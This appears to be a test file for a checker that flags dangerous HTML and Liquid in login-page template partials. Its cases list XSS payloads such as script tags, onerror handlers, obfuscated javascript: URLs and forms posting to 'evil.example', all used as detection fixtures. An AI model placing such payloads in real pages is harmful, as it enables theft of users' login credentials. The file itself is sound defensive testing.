@@ -1,0 +1,238 @@
+// What a changed partial brings that the live text does not have.
+import { describe, expect, test } from 'vitest';
+import { inspect } from '../../src/kinds/prompts/inspect.ts';
+import type { Effect } from '../../src/model/plan.generated.ts';
+import { buildAction } from '../support/build-action.ts';
+
+const place = { screen: 'login', point: 'form-content-start' };
+const own = { file: 'partials/start.liquid', line: 1, column: 1 };
+
+function put(after: string, before: string | null = null, source = own) {
+  const partials = (text: string) => ({ [place.screen]: { [place.point]: text } });
+  return buildAction({
+    kind: 'prompts',
+    key: 'login',
+    action: 'put',
+    before: before === null ? null : partials(before),
+    after: partials(after),
+    sources: [{ pointer: '/login/form-content-start', source }],
+  });
+}
+
+async function effects(after: string, before: string | null = null, source = own): Promise<readonly Effect[]> {
+  const action = put(after, before, source);
+  return (await inspect([action])).get(action.id) ?? [];
+}
+
+const codes = async (after: string, before: string | null = null) =>
+  [...new Set((await effects(after, before)).map(({ code }) => code))].sort();
+
+describe('dangerous texts', () => {
+  test.each<readonly [string, readonly string[]]>([
+    // Scripts
+    ['<script>steal()</script>', ['PARTIAL_SCRIPT']],
+    ['<SCRIPT\n>steal()</SCRIPT\n>', ['PARTIAL_SCRIPT']],
+    ['<script src="https://evil.example/x.js"></script>', ['PARTIAL_EXTERNAL_ORIGIN', 'PARTIAL_SCRIPT']],
+    ['<script src="/own.js"></script>', ['PARTIAL_SCRIPT']],
+    ['<script type="module">x</script>', ['PARTIAL_SCRIPT']],
+    ['<script type="application/json">{"a":1}</script>', []],
+    ['<svg><script href="https://evil.example/x.js"/></svg>', ['PARTIAL_EXTERNAL_ORIGIN', 'PARTIAL_SCRIPT']],
+    ['<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>', ['PARTIAL_SCRIPT']],
+    ['<svg><style><img src=x onerror=steal()></style></svg>', ['PARTIAL_EVENT_HANDLER']],
+    // Handlers
+    ['<img src=x onerror=steal()>', ['PARTIAL_EVENT_HANDLER']],
+    ['<body/onload=steal()>', ['PARTIAL_EVENT_HANDLER']],
+    ['<button OnClick="steal()">a</button>', ['PARTIAL_EVENT_HANDLER']],
+    ['<input name="ulp-a" oninput=steal()>', ['PARTIAL_EVENT_HANDLER']],
+    // URLs that run
+    ['<a href="javascript:steal()">a</a>', ['PARTIAL_SCRIPT_URL']],
+    ['<a href=" java\nscript:steal()">a</a>', ['PARTIAL_SCRIPT_URL']],
+    ['<a href="&#106;avascript:steal()">a</a>', ['PARTIAL_SCRIPT_URL']],
+    ['<a href="\u0001JaVaScRiPt:steal()">a</a>', ['PARTIAL_SCRIPT_URL']],
+    ['<iframe src="data:text/html,<script>x</script>"></iframe>', ['PARTIAL_SCRIPT_URL']],
+    ['<svg><animate attributeName="href" values="javascript:steal()"/></svg>', ['PARTIAL_SCRIPT_URL']],
+    ['<a href="vbscript:x">a</a>', ['PARTIAL_SCRIPT_URL']],
+    // Origins
+    ['<a href="https://a.example/terms">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="//a.example/terms">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="\\\\a.example">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<img srcset="/a.png 1x, https://a.example/b.png 2x">', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<link rel="stylesheet" href="https://a.example/a.css">', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<base href="https://a.example/">', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<meta http-equiv="refresh" content="0; url=https://a.example/">', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<p style="background: url(https://a.example/p.png)">a</p>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<style>@import "//a.example/a.css";</style>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<style>a { background: \\75rl(https\\3a //a.example/) }</style>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="intent:x">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="mailto:a@a.example">a</a><a href="tel:+1">b</a><img src="data:image/png;base64,AA">', []],
+    ['<a href="/terms">a</a><a href="#x">b</a><a href="?x=https://a.example/">c</a>', []],
+    // Forms
+    ['<form action="https://evil.example/"></form>', ['PARTIAL_FORM_TARGET']],
+    ['<button formaction="//evil.example/">a</button>', ['PARTIAL_FORM_TARGET']],
+    ['<form action="/u/login"></form>', []],
+    ['<input name="password">', ['PARTIAL_FIELD_PREFIX']],
+    ['<select name="state"></select><textarea name="x"></textarea>', ['PARTIAL_FIELD_PREFIX']],
+    ['<input name="ulp-terms" type="checkbox"><button>Send</button><input>', []],
+    // Balance
+    ['<div><p>a</div>', []],
+    ['<div><b>a</div>', ['PARTIAL_HTML_UNBALANCED']],
+    ['<div>a', ['PARTIAL_HTML_UNBALANCED']],
+    ['a</form>', ['PARTIAL_HTML_UNBALANCED']],
+    ['<ul><li>a<li>b</ul><img><br/><svg><path/></svg><table><tr><td>a</table>', []],
+    ['<textarea><div></textarea><title><b></title><!-- <div> -->', []],
+    // Liquid
+    ['{% if x %}a', ['PARTIAL_LIQUID_BROKEN']],
+    ['{{ x ', ['PARTIAL_LIQUID_BROKEN']],
+    ['{% endif %}', ['PARTIAL_LIQUID_BROKEN']],
+    ['{% unknown_tag %}{{ x | unknown_filter }}{% endunknown_tag %}', []],
+    ['{% raw %}{{ x {% endraw %}', []],
+    ['{% comment %}<script>x</script><div>{% endcomment %}', []],
+    ['{% raw %}<script>x</script>{% endraw %}', ['PARTIAL_SCRIPT']],
+    ['{% if a %}<b>x</b>{% else %}<i>y</i>{% endif %}', []],
+    ['{% if a %}<b>{% else %}<b class="c">{% endif %}x</b>', []],
+    ['{% case a %}{% when 1 %}<b>{% when 2 %}<b>{% else %}<b>{% endcase %}x</b>', []],
+    ['{% if a %}<b>{% endif %}x{% if a %}</b>{% endif %}', []],
+    ['{% if a %}<b>x{% endif %}y', []],
+    // Liquid that hides markup
+    ['<{% if a %}script{% endif %}>steal()</script>', ['PARTIAL_DYNAMIC_MARKUP', 'PARTIAL_HTML_UNBALANCED']],
+    ['<scr{% if a %}{% endif %}ipt>steal()</script>', ['PARTIAL_DYNAMIC_MARKUP', 'PARTIAL_SCRIPT']],
+    [
+      '<script{% if a %} async{% endif %}>steal()</script><img src=x onerror=y>',
+      ['PARTIAL_EVENT_HANDLER', 'PARTIAL_SCRIPT'],
+    ],
+    ['<img src=x {% if a %}onerror=steal(){% endif %}>', ['PARTIAL_EVENT_HANDLER']],
+    ['<img src=x {{ a }}onerror=steal()>', ['PARTIAL_DYNAMIC_MARKUP', 'PARTIAL_EVENT_HANDLER']],
+    ['<img src=x on{{ a }}=steal()>', ['PARTIAL_DYNAMIC_MARKUP']],
+    ['<a {% if x %}href="/a"{% else %}href="javascript:steal()"{% endif %}>a</a>', ['PARTIAL_SCRIPT_URL']],
+    ['<a href="java{% if x %}script:steal(){% endif %}">a</a>', ['PARTIAL_EXTERNAL_ORIGIN', 'PARTIAL_SCRIPT_URL']],
+    ['<a href="{% if x %}/a{% else %}https://evil.example/{% endif %}">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="{{ url }}">a</a>', ['PARTIAL_DYNAMIC_ORIGIN']],
+    ['<a href="https://{{ host }}/a">a</a>', ['PARTIAL_DYNAMIC_ORIGIN']],
+    ['<a href="https://a.example/{{ path }}">a</a>', ['PARTIAL_EXTERNAL_ORIGIN']],
+    ['<a href="/{{ path }}">a</a>', ['PARTIAL_DYNAMIC_ORIGIN']],
+    ['<a href="/a/{{ path }}">a</a>', []],
+    ["{{ '<script>steal()</script>' }}", ['PARTIAL_DYNAMIC_MARKUP']],
+    ["{% assign a = 'javascript:x' %}", ['PARTIAL_DYNAMIC_MARKUP']],
+    ['{% if x %}<!--{% endif %}<script>steal()</script>{% if x %}-->{% endif %}', ['PARTIAL_SCRIPT']],
+    ['<div class="a {% if x %}b{% endif %}"{% if y %} hidden{% endif %}>{{ text }}</div>', []],
+  ])('%s', async (text, expected) => {
+    expect(await codes(text)).toEqual(expected);
+  });
+});
+
+test('only what the change introduces', async () => {
+  const live =
+    '<script src="https://cdn.example/a.js"></script><div><img onerror=a()>{% if x %}<a href="javascript:b()">c</a>';
+  expect(await codes(`<p>New</p>${live}`, live)).toEqual([]);
+  expect(await codes(live.replace('a()', 'b()'), live)).toEqual(['PARTIAL_EVENT_HANDLER']);
+  expect(await codes(live.replace('a.js', 'b.js'), live)).toEqual(['PARTIAL_SCRIPT']);
+  expect(await codes(live.replaceAll('\n', '\r\n'), live)).toEqual([]);
+  expect(await codes('', live)).toEqual([]);
+});
+
+test('an effect of an own file has its line and column', async () => {
+  const [script, field] = await effects(
+    '<p>\n  é {% if x %}<script>x</script>{% endif %}\n{{ y }}<input name="a"></p>',
+  );
+  expect(script).toEqual({
+    code: 'PARTIAL_SCRIPT',
+    severity: 'warning',
+    message: 'has new in login/form-content-start: an inline script',
+    kind: 'prompts',
+    key: 'login',
+    source: { file: 'partials/start.liquid', line: 2, column: 15 },
+  });
+  expect(field).toMatchObject({ code: 'PARTIAL_FIELD_PREFIX', source: { line: 3, column: 15 } });
+});
+
+test('a text in a YAML file has the place of the text', async () => {
+  const source = { file: 'prompts.yaml', line: 7, column: 9 };
+  expect(await effects('a\n<script>x</script>', null, source)).toMatchObject([{ source }]);
+});
+
+test('without a change, or for a text that goes, nothing is inspected', async () => {
+  expect((await inspect([put('<script>x</script>', '<script>x</script>')])).size).toBe(0);
+  const gone = buildAction({
+    kind: 'prompts',
+    key: 'login',
+    action: 'put',
+    before: { login: { a: '<script>' } },
+    after: {},
+  });
+  expect((await inspect([gone])).size).toBe(0);
+});
+
+describe('bounds', () => {
+  test('effects of one code are counted beyond the tenth, and all beyond the fiftieth', async () => {
+    const many = await effects(Array.from({ length: 30 }, (_empty, index) => `<input name="f${index}">`).join(''));
+    expect(many.map(({ code }) => code)).toEqual([...Array<string>(10).fill('PARTIAL_FIELD_PREFIX'), 'PARTIAL_MORE']);
+    expect(many.at(-1)?.message).toBe('has 20 more of these in its texts');
+  });
+
+  test.each([
+    ['of 5 MB', 'a<b>'.repeat(1_250_000)],
+    ['that is live, of 5 MB', '<script>x</script>'],
+  ])('a text %s is not inspected', async (name, text) => {
+    const started = performance.now();
+    const live = name.startsWith('that is live') ? '<'.repeat(5_000_000) : null;
+    expect(await effects(text, live)).toMatchObject([{ code: 'PARTIAL_NOT_INSPECTED', severity: 'note' }]);
+    expect(performance.now() - started).toBeLessThan(1000);
+  });
+
+  const size = 20_000;
+  const filled = (unit: string) => unit.repeat(Math.floor(size / unit.length));
+  test.each([
+    ['open elements', filled('<b>')],
+    ['open and stray elements', filled('<b></i>')],
+    ['stray ends', filled('</b>')],
+    ['attributes', `<a ${filled('a ').slice(0, size - 10)}>`],
+    [
+      'different attributes',
+      `<a ${Array.from({ length: 3000 }, (_empty, index) => `a${index}`)
+        .join(' ')
+        .slice(0, size - 10)}>`,
+    ],
+    ['attributes with Liquid', `<a ${filled('{%a%}b=c ').slice(0, size - 10)}>`],
+    ['nested blocks', filled('{%if a%}')],
+    ['closed nested blocks', '{%if a%}'.repeat(1000) + '{%endif%}'.repeat(1000)],
+    ['blocks over open elements', '<b>'.repeat(3000) + '{%if a%}{%else%}{%endif%}'.repeat(400)],
+    ['blocks that open and close', '<b>'.repeat(2500) + '{%if a%}</b>{%else%}</b>{%endif%}'.repeat(360)],
+    ['unclosed outputs', filled('{{')],
+    ['unclosed tags', filled('{%')],
+    ['quotes', `{{ ${filled('"').slice(0, size - 10)} }}`],
+    ['quotes in many outputs', filled("{{'<'}}")],
+    ['filters', `{{ a ${filled('| b').slice(0, size - 10)} }}`],
+    ['raw without an end', filled('{%raw%}')],
+    ['comments', filled('<!--{{a}}')],
+    ['nested documents', `<iframe srcdoc="${filled('&lt;iframe srcdoc=').slice(0, size - 30)}">`],
+    ['styles', `<style>${filled('//').slice(0, size - 20)}`],
+    ['long schemes in styles', `<style>${filled('aaaaaaaa').slice(0, size - 20)}://a`],
+    ['sets of sources', `<img srcset="${filled('//a,').slice(0, size - 20)}">`],
+    ['Liquid in a value', `<a href="${filled('{%a%}b').slice(0, size - 20)}">`],
+    ['dynamic names', filled('<{{a}}')],
+    ['scripts', filled('<script>')],
+    ['entities', filled('&amp;')],
+    ['NUL', filled('\0')],
+    ['characters for private use', filled('<\ue000')],
+    ['lone surrogates', filled('\ud800')],
+  ])('hostile: %s', async (_name, text) => {
+    expect(text.length).toBeLessThanOrEqual(size + 10);
+    const cut = text.slice(0, size);
+    const started = performance.now();
+    const found = await effects(cut, cut.slice(1));
+    expect(found.length).toBeLessThanOrEqual(51);
+    expect(performance.now() - started).toBeLessThan(3000);
+  });
+
+  test('the texts of a plan share a limit', async () => {
+    const text = 'a<b>'.repeat(5000);
+    const actions = Array.from({ length: 120 }, (_empty, index) => ({
+      ...put(text),
+      id: `prompts/p${index}`,
+      key: `p${index}`,
+    }));
+    const found = await inspect(actions);
+    const skipped = [...found.values()].flat().filter(({ code }) => code === 'PARTIAL_NOT_INSPECTED');
+    expect(skipped).toHaveLength(20);
+  });
+});
